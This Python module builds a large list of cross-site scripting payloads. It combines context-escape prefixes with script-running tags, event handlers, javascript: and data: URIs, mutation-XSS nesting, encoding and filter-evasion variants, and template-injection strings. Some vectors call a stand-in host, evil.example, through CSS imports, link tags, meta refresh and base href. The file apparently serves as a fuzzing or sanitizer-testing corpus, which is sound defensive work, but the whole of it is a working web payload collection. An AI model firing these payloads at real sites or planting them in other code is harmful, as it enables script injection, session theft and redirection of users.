"""Texts that would run as a script wherever a page took them for anything but text: each way out of a place, with each way to run."""

from __future__ import annotations

from itertools import product

OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "</select>", "</noscript>", "</option></datalist>", "</text></svg>")
"""Ways out of where the text stands: of an attribute, of elements whose content is text, of a comment, of a drawing."""
RUN = (
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg/onload=alert({n})>", "<body onload=alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'>", "<video><source onerror=alert({n})></video>", "<details open ontoggle=alert({n})>x</details>",
    "<input autofocus onfocus=alert({n})>", "<object data=javascript:alert({n})>", "<embed src=javascript:alert({n})>",
    "<a href=javascript:alert({n}) autofocus onfocus=alert({n})>x</a>", "<form action=javascript:alert({n})><button autofocus onfocus=alert({n})>x",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>", "<style>@import '//evil.example/{n}.css';</style>",
    "<link rel=stylesheet href=//evil.example/{n}.css>", "<meta http-equiv=refresh content=0;url=//evil.example/{n}>",
    "<base href=//evil.example/{n}/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>", "<svg><style><img src=x onerror=alert({n})></style></svg>",
    "<template><script>alert({n})</script></template>",
)
"""Ways to run, or to load something from elsewhere."""
WITHIN = ("\" {} x=\"", "' {} x='", "` {} x=`", " {} ")
"""Ways out of a value into another attribute of the same tag."""
ATTRIBUTES = ("onmouseover=alert({n})", "onfocus=alert({n}) autofocus", "onload=alert({n})", "style=animation-name:x onanimationstart=alert({n})",
              "href=javascript:alert({n})", "srcdoc=<script>alert({n})</script>", "formaction=javascript:alert({n})", "background=//evil.example/{n}")
WRITTEN = (
    "javascript:alert({n})", "JaVaScRiPt:alert({n})", "java\tscript:alert({n})", "&#106;avascript:alert({n})", "\x01javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>", "vbscript:alert({n})", "//evil.example/{n}.js", "%3Cscript%3Ealert({n})%3C/script%3E",
    "%253Cscript%253Ealert({n})%253C/script%253E", "&lt;script&gt;alert({n})&lt;/script&gt;", "&#60;script&#62;alert({n})&#60;/script&#62;",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e", "\\x3cscript\\x3ealert({n})\\x3c/script\\x3e",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e", "<scr\u200bipt>alert({n})</scr\u200bipt>", "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "${{alert({n})}}", "{{{{constructor.constructor('alert({n})')()}}}}", "<%= alert({n}) %>", "#{{alert({n})}}", "{{% include '{n}' %}}",
    "');alert({n});//", "\";alert({n});//", "\\\";alert({n});//", "</script><script>alert({n})//", "]]><script>alert({n})</script>",
)
"""Other ways to write the same: schemes, encodings, templates, strings of a script."""
ATTACKS = tuple(text.format(n=n) for n, text in enumerate((
    *(out + run for out, run in product(OUT, RUN)), *(within.format(attribute) for within, attribute in product(WITHIN, ATTRIBUTES)), *WRITTEN)))
